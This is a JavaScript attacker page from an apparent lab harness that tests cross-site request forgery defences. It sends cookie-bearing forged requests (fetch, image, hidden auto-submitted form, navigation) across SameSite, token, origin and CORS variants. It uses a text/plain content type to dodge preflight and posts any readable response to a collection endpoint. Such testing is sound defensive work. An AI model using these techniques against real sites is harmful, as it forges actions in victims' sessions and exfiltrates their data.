// Cross-site request forgery (claim T15): every way in which a page can make a browser send a request, at every variant
// of the victim's room. One cell of the matrix is one request. Whether it did anything is for the room to say: this page
// may not read the answers, and where it may after all, it sends what it read home.
//
// Requests from a script go first. Those by navigation leave the page, and the room sends the browser back; `next` in the
// address says how far it has come.

const progress = document.getElementById('progress');
const { room, collect, from, done, sandbox, sameSite: oneCookie, checks: oneCheck } = progress.dataset;

const SAME_SITE = oneCookie ? [oneCookie] : ['none', 'unset', 'lax', 'strict'];
const CHECKS = oneCheck ? [oneCheck] : ['none', 'origin', 'token', 'both'];
const FORM = 'application/x-www-form-urlencoded';

/** Sends a request from this script. `no-cors` asks nobody, and may read nothing. */
const send = (address, options) => fetch(address, { mode: 'no-cors', credentials: 'include', ...options });
const post = (address, type, body, mode = 'no-cors') =>
  send(address, { method: 'POST', mode, headers: { 'content-type': type }, body });
const form = (parameters) => new URLSearchParams(parameters).toString();

const ways = {
  'fetch-form': (address, parameters) => post(address, FORM, form(parameters)),
  // JSON in the clothes of plain text: had it said what it is, the browser would have asked permission first.
  'fetch-text': (address, parameters) => post(address, 'text/plain', JSON.stringify(parameters)),
  'fetch-get': (address, parameters) => send(`${address}&${form(parameters)}`, {}),
  image: (address, parameters) => load(`${address}&${form(parameters)}`),
  // With a wish to read the answer. The first is sent all the same; for the second the browser asks permission.
  'read-form': (address, parameters) => read(address, FORM, form(parameters), parameters),
  'read-json': (address, parameters) => read(address, 'application/json', JSON.stringify(parameters), parameters),
};

const words = {
  'fetch-form': 'a form, sent by a script',
  'fetch-text': 'JSON that calls itself plain text',
  'fetch-get': 'a question, asked by a script',
  image: 'an image',
  'read-form': 'a form, sent by a script that wants to read the answer',
  'read-json': 'JSON that says so, for which the browser asks permission first',
  'form-post': 'a form that leaves this page',
  'navigate-get': 'a link that leaves this page',
};

const departures = {
  'form-post': (address, parameters) => submit(address, parameters),
  'navigate-get': (address, parameters) => location.replace(`${address}&${form(parameters)}`),
};

/** Every cell, in the order in which they are run. */
function cells() {
  const all = [];
  const add = (way, checks, cors) => {
    for (const sameSite of SAME_SITE) all.push({ way, sameSite, checks, cors });
  };
  for (const way of ['fetch-form', 'fetch-text', 'fetch-get', 'image']) {
    for (const checks of CHECKS) add(way, checks, 'none');
  }
  for (const way of ['read-form', 'read-json']) {
    for (const cors of ['none', 'strict', 'open']) add(way, CHECKS[0], cors);
  }
  for (const way of ['form-post', 'navigate-get']) {
    for (const checks of CHECKS) add(way, checks, 'none');
  }
  return all;
}

function load(address) {
  return new Promise((settled) => {
    const image = new Image();
    image.onload = image.onerror = settled;
    image.src = address;
  });
}

async function read(address, type, body, { nonce }) {
  const answer = await post(address, type, body, 'cors').then((answer) => answer.text());
  await fetch(collect, { method: 'POST', body: JSON.stringify({ nonce, answer }) });
}

function submit(address, parameters) {
  const form = document.createElement('form');
  Object.assign(form, { method: 'post', action: address, hidden: true });
  for (const [name, value] of Object.entries(parameters)) {
    const input = document.createElement('input');
    Object.assign(input, { type: 'hidden', name, value });
    form.append(input);
  }
  document.body.append(form);
  form.submit();
}

/** Where the room sends the browser back to: here, one further. */
function here(next) {
  const address = new URL(location.href);
  address.searchParams.set('next', next);
  return address.href;
}

async function run() {
  const all = cells();
  const begun = Number(new URLSearchParams(location.search).get('next') ?? 0);
  for (let n = begun; n < all.length; n += 1) {
    const { way, sameSite, checks, cors } = all[n];
    progress.textContent = `Request ${n + 1} of ${all.length}: ${words[way]}. Cookie: ${sameSite}. Checks: ${checks}.`;
    // The query says where the lab is to note it; the cookie that says so stays at home.
    const address = `${room}/${sameSite}/${checks}/${cors}?sandbox=${sandbox}`;
    const nonce = [from, way, sameSite, checks, cors].join('.');
    // It cannot know the token: another origin's page may not read the form that it stands in.
    const parameters = { nonce, to: 'mallory', anti_forgery_token: 'a guess' };
    if (way in departures) {
      departures[way](address, { ...parameters, return_to: here(n + 1) });
      return;
    }
    // A browser that keeps the answer from this page says so by failing. The request was sent for all that.
    await ways[way](address, parameters).catch(() => undefined);
  }
  progress.textContent = 'That was all.';
  location.replace(done);
}

run();
